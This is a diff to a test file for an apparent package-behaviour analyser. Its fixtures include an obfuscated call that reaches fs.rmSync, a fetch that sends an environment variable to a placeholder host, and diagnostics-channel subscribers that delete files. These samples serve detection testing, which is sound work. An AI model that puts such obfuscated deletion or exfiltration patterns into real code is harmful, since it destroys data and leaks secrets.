@@ -352,17 +352,16 @@ describe('going through a package step by step', () => {
     );
   });
 
-  it('goes through nothing that only asks where it runs: there is nowhere to bring that to', () => {
-    assert.deepEqual(symbolicModule({ 'index.js': `exports.level = process.env.LEVEL ?? require('os').platform();` }).uses, []);
-    const hidden = symbolicModule({
-      'index.js': `const at = process.env.LEVEL ?? 'a'; process[['getBuiltin', 'Module'].join('')]('fs').rmSync(at);`,
-    });
-    assert.ok(hidden.uses.some(({ path }) => path === 'rmSync'));
-    const sent = symbolicModule({ 'index.js': `fetch('https://a.invalid/' + process.env.LEVEL);` });
-    assert.deepEqual(
-      sent.uses.map(({ path }) => path),
-      ['process.env.LEVEL', 'fetch'],
-    );
+  it('hands subscribers what a traced call throws, and what a promise is refused with', () => {
+    const told = (call: string): readonly string[] =>
+      // Subscribers are also told what anybody else may publish.
+      symbolicUses({
+        'index.js': `const traced = require('diagnostics_channel').tracingChannel('t'); traced.subscribe({ error: c => require('fs').rmSync(c.error.message) }); ${call}`,
+      });
+    assert.deepEqual(told(`try { traced.traceSync(() => { throw new Error('a'); }); } catch {}`).slice(-1), ['import fs.rmSync(a)']);
+    assert.deepEqual(told(`traced.tracePromise(async () => { throw new Error('b'); }).catch(() => {});`).slice(-1), [
+      'import fs.rmSync(b)',
+    ]);
   });
 
   it('notes nothing of what the package does not do', () => {
